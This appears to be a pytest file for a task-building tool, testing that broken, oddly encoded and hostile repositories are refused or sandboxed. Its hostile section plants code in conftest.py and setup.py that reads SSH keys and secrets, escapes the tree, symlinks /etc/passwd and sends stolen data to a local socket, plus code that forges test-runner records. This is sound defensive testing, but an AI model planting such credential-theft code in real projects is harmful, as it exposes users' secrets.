"""Repositories that are broken, odd or hostile, through the command line: refused in one sentence, or used.

What a hostile one tries must not be seen outside the sandbox; each such test also shows
that its trap works.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from small_trees import write_tree

from composer_replication.tasks.store import TaskStore

Command = Callable[..., Any]
Make = Callable[..., Path]
PYPROJECT = '[project]\nname = "planted"\nversion = "1"\n'
MODULE = """def triple(x):
    y = x + x + x
    return y

def double(x):
    y = x + x
    return y
"""
TESTS = """import planted

def test_triple():
    assert planted.triple(2) == 6

def test_double():
    assert planted.double(2) == 4

def test_double_more():
    assert planted.double(5) == 10
"""
PIN = "planted.py::double"
GOOD = {"pyproject.toml": PYPROJECT, "planted.py": MODULE, "tests/test_planted.py": TESTS}
OTHER = {**GOOD, "pyproject.toml": PYPROJECT.replace("planted", "another")}


@pytest.fixture
def make(tmp_path: Path) -> Make:
    """Writes a project; ``GOOD`` with changes, None takes a file away."""

    def make_project(
        changes: Mapping[str, str | bytes | None] = {},
        *,
        base: Mapping[str, str] = GOOD,
        name: str = "project",
    ) -> Path:
        wanted = {**base, **changes}
        return write_tree(tmp_path / name, {path: text for path, text in wanted.items() if text is not None})

    return make_project


@pytest.fixture
def good(make: Make) -> Path:
    """A project beside the one of ``make``, of which tasks can be built."""
    return make(base=OTHER, name="good")


@pytest.fixture
def builds(command: Command, tmp_path: Path) -> Callable[..., TaskStore]:
    """Builds one task of a project, which must work; gives the store."""

    def build(source: object, pin: str = PIN, out: str = "out") -> TaskStore:
        answer = command(
            "tasks", "build", "--visible-only", source, "--out", tmp_path / out, "--symbol", pin, fails=False
        )
        assert answer.exit_code == 0, answer.err
        assert json.loads(answer.out)["tasks"] == 1
        store = TaskStore.open(tmp_path / out)
        store.verify()
        return store

    return build


@pytest.fixture
def refused(command: Command, tmp_path: Path) -> Callable[..., str]:
    """A build that must be refused, with exit code 4; gives the message."""

    def build(source: object, code: str) -> str:
        answer = command("tasks", "build", "--visible-only", source, "--out", tmp_path / "out")
        assert (answer.exit_code, answer.error["code"]) == (4, code), answer.err
        assert not list((tmp_path / "out").glob("tasks/*.json*"))
        return str(answer.error["message"])

    return build


# --- tasks that are there already --------------------------------------------------------------


@pytest.mark.long
def test_those_that_cannot_be_opened_beside_a_good_one_are_counted_and_named(
    command: Command, make: Make, good: Path, tmp_path: Path
) -> None:
    without_tests = make({"tests/test_planted.py": "# none\n"})
    nameless = make({"pyproject.toml": None}, name="nameless")
    words = ("--out", tmp_path / "out", "--max-tasks", 1, "--visible-only")
    answer = command("tasks", "build", without_tests, nameless, good, *words, fails=False)
    result = json.loads(answer.out)
    assert (answer.exit_code, result["tasks"]) == (0, 1)
    assert (result["rejected"]["red-baseline"], result["rejected"]["CR0402"]) == (1, 1)
    (no_tests,) = set(result["unusable"].values()) - {result["unusable"][str(nameless)]}
    assert no_tests.startswith("red-baseline: no test is collected, looked for by ")
    assert result["unusable"][str(nameless)].startswith("CR0402: ")
    before = TaskStore.open(tmp_path / "out").fingerprint
    for bad, code in (
        (without_tests, "CR0231"),  # it can be opened, so this would be another build
        (nameless, "CR0402"),
    ):  # alone, into the tasks of the build before
        assert command("tasks", "build", bad, *words).error["code"] == code
        after = TaskStore.open(tmp_path / "out")
        after.verify()
        assert (after.fingerprint, len(after.tasks())) == (before, 1)


# --- suites that are red in the sandbox ----------------------------------------------------------

NETWORK = (
    "import socket\ndef test_network():\n    socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
)


@pytest.fixture
def listening() -> Any:
    """A port of this machine on which somebody answers."""
    import socket

    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (NETWORK, r"test_network: (\w*Error|OSError)"),
        ("def test_it():\n    assert 1 == 2, 'one is not two'\n", "test_it: AssertionError: one is not two"),
    ],
)
def test_tests_that_need_what_a_sandbox_has_not(
    make: Make, refused: Callable[..., str], listening: int, text: str, why: str
) -> None:
    message = refused(make({"tests/test_planted.py": text.format(port=listening)}), "CR0419")
    assert "red-baseline 1" in message
    assert "0 of 1 tests are green; the first says: tests/test_planted.py" in message
    assert re.search(why, message), message


def test_a_module_that_the_test_runner_has_too(make: Make, refused: Callable[..., str]) -> None:
    assert "runner-dependency 1" in refused(make({"src/pluggy.py": MODULE}), "CR0419")


# --- layouts that work -----------------------------------------------------------------------------


def moved(
    module: str, path: str, tests: str = "tests/test_planted.py", **more: str
) -> tuple[dict[str, str | None], str]:
    """The good project with its module elsewhere: changes, and the pin."""
    text = TESTS.replace("import planted\n", f"import {module} as planted\n")
    old = {"planted.py": None, "tests/test_planted.py": None}
    return {**old, path: MODULE, tests: text, **more}, f"{path}::double"


IN_PACKAGE = {"planted/tests/__init__.py": ""}
OWN_MODE = {"pytest.ini": "[pytest]\naddopts = --import-mode=importlib --no-such-option\n"}
NO_TABLES = "project = [[1]]\n[tool.poetry]\ndependencies = [1]\ngroup = 3\n"
CLIMBING = (
    '[project]\nname = "../../climbed"\nversion = "1"\n[tool.poetry.dependencies]\npython = {version = 3}\n'
)
LAYOUTS = {
    "namespace in src, its own import mode, and metadata whose tables are lists": moved(
        "space.planted", "src/space/planted/__init__.py", **OWN_MODE, **{"pyproject.toml": NO_TABLES}
    ),
    "tests in the package": moved("planted", "planted/__init__.py", "planted/tests/test_planted.py", **IN_PACKAGE),
}  # fmt: skip


@pytest.mark.parametrize("name", LAYOUTS)
def test_a_layout_works(make: Make, builds: Callable[..., TaskStore], name: str) -> None:
    changes, pin = LAYOUTS[name]
    if name == "tests in the package":  # and a name that leads out leads nowhere
        changes = {**changes, "pyproject.toml": CLIMBING}
    store = builds(make(changes), pin)
    (task,), (record,) = store.tasks(), store.repositories()
    assert task.symbol == "double"
    assert not [
        path for path in record.files if "climbed" in path.partition("/")[2] or ".." in path.split("/")
    ]


# --- odd files -------------------------------------------------------------------------------------

ODD = {
    "broken.py": "def (\n",
    "tests/test_broken.py": "import broken\n",
    "tests/test_syntax.py": "def test(:\n",
    "brackets.py": "x = " + "(" * 3000 + ")" * 3000 + "\n",
    "minuses.py": "x = " + "-" * 50_000 + "1\n",
    "sums.py": "def total():\n    return " + "+".join(["1"] * 20_000) + "\n",
    "blocks.py": "".join(" " * depth + "if x:\n" for depth in range(90)) + " " * 90 + "pass\n",
    "attributes.py": "def deep(x):\n    return x" + ".a" * 20_000 + "\n",
    "one_line.py": "def long():\n    text = '" + "y" * 3_000_000 + "'\n    return text\n",
    "many_names.py": "x = [" + "a, " * 100_000 + "]\n",
    "latin.py": "# -*- coding: latin-1 -*-\ndef café():\n    x = 'é'\n    return x\n".encode("latin-1"),
    "binary.py": b"x = '\xff\xfe'\n",
    "zeros.py": b"x = 1\0\n",
    "utf16.py": "def f():\n    return 1\n".encode("utf-16"),
    "marked.py": b"\xef\xbb\xbfdef f():\n    y = 1\n    return y\n",
    "unknown.py": b"# coding: no-such-codec\ndef f():\n    return 1\n",
    "returns.py": b"def f():\r    y = 1\r    return y\r",
    "tests/data/a file with spaces é ü 漢.txt": "x",
    "tests/test_ümlaut with spaces.py": "import planted\n\n\ndef test_six():\n    assert planted.double(3) == 6\n",
    "tests/data/" + "n" * 200 + ".txt": "x",
}


@pytest.mark.long
def test_odd_files_beside_good_ones(make: Make, builds: Callable[..., TaskStore]) -> None:
    root = make(ODD)
    (root / "loop").symlink_to(root)
    (root / "tests" / "self").symlink_to("self")
    (root / "tests" / "outside.py").symlink_to("/etc/passwd")
    os.mkfifo(root / "tests" / "pipe.py")
    (root / "tests" / os.fsdecode(b"\xff.txt")).write_text("not UTF-8")
    (root / "tests" / "line\nbreak.txt").write_text("x")
    store = builds(root)
    (task,) = store.tasks()
    (record,) = store.repositories()
    tests = {*task.tests.visible, *task.tests.hidden, *record.green}
    assert "tests/test_ümlaut with spaces.py::test_six" in tests
    assert "tests/data/a file with spaces é ü 漢.txt" in record.files
    assert not [
        name for name in record.files if "\n" in name or "loop" in name or "outside" in name or "pipe" in name
    ]
    assert set(record.broken_files) == {"tests/test_broken.py", "tests/test_syntax.py"}


# --- hostile repositories ----------------------------------------------------------------------------

TRIES = """
import os, pathlib, socket
marker, secret, port = {marker!r}, {secret!r}, {port}
def try_all():
    stolen = ""
    for path in (secret, os.path.expanduser("~/.ssh/id_rsa"), os.path.join(os.environ.get("HOME", "/"), "secret")):
        try:
            stolen += pathlib.Path(path).read_text()
        except OSError:
            pass
    for attempt in (
        lambda: pathlib.Path(marker).write_text("written " + stolen),
        lambda: pathlib.Path(__file__).resolve().parents[3].joinpath("climbed").write_text("x"),
        lambda: os.symlink("/etc/passwd", marker + "-link"),
        lambda: socket.create_connection(("127.0.0.1", port), timeout=5).sendall(b"stolen " + stolen.encode()),
    ):
        try:
            attempt()
        except (OSError, IndexError):  # a jail's tree may lie at the very top
            pass
    return stolen
found = try_all()
"""


@pytest.fixture
def trap(tmp_path: Path, listening: int, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """What a hostile file tries to reach: a marker to write, a secret in HOME, a port that answers."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "secret").write_text("s3cret")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("COMPOSER_TEST_SECRET", "s3cret")
    return {"marker": str(tmp_path / "marker"), "secret": str(home / "secret"), "port": listening}


def test_the_trap_works(trap: dict[str, Any], tmp_path: Path) -> None:
    """The same lines outside a sandbox: marker, link and secret are seen."""
    (tmp_path / "a" / "b" / "c").mkdir(parents=True)
    (tmp_path / "a" / "b" / "c" / "run.py").write_text(TRIES.format(**trap))
    subprocess.run([sys.executable, tmp_path / "a" / "b" / "c" / "run.py"], check=True)
    assert "s3cret" in Path(trap["marker"]).read_text()
    assert (tmp_path / "climbed").exists()
    assert Path(trap["marker"] + "-link").is_symlink()


def seen_outside(tmp_path: Path) -> set[str]:
    return {path.name for path in tmp_path.iterdir()} - {"project", "out", "home"}


NEVER_RUN = ("setup.py", "noxfile.py", "sitecustomize.py", "usercustomize.py", "hatch_build.py")
SETUP = "\nfrom setuptools import setup\nsetup(name='planted', install_requires=[], cmdclass={})\n"


@pytest.mark.parametrize(
    "place",
    [
        "conftest.py",
        *(pytest.param(n, marks=pytest.mark.long) for n in ("tests/conftest.py", "planted_plugin.py")),
    ],
)
def test_hostile_files_reach_nothing(
    make: Make, builds: Callable[..., TaskStore], trap: dict[str, Any], tmp_path: Path, place: str
) -> None:
    """Those that pytest runs, and those that an installation would, which are not run at all."""
    guard = "\nassert not found, 'a secret was read'\nassert not os.environ.get('COMPOSER_TEST_SECRET')\n"
    more = {"conftest.py": "pytest_plugins = ['planted_plugin']\n"} if place == "planted_plugin.py" else {}
    hostile = TRIES.format(**trap)
    changes = {
        "pyproject.toml": None,
        **dict.fromkeys(NEVER_RUN, hostile + SETUP),
        **more,
        place: hostile + guard,
    }
    root = make(changes)
    before = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)  # neither when the project is the working directory
        builds(root)
    assert seen_outside(tmp_path) == set()
    assert {path: path.read_bytes() for path in root.rglob("*") if path.is_file()} == before
    found = {path.relative_to(tmp_path / "home").parts[:2] for path in (tmp_path / "home").rglob("*")}
    assert found - {(".cache",), (".cache", "composer-rl")} == {("secret",)}  # the cache is our own


FORGED = {"nonce": "0" * 32, "event": "test", "id": "tests/test_planted.py::test_triple", "outcome": "passed"}
FORGES = f"""import os
for descriptor in range(1, 20):
    try:
        os.write(descriptor, {(json.dumps(FORGED) + chr(10)).encode()!r})
    except OSError:
        pass
"""


@pytest.mark.parametrize("first", ["import os\n", FORGES])
def test_a_conftest_that_breaks_the_runner_or_forges_records_is_red(
    make: Make, refused: Callable[..., str], first: str
) -> None:
    assert "red-baseline" in refused(make({"conftest.py": f"{first}os._exit(0)\n"}), "CR0419")
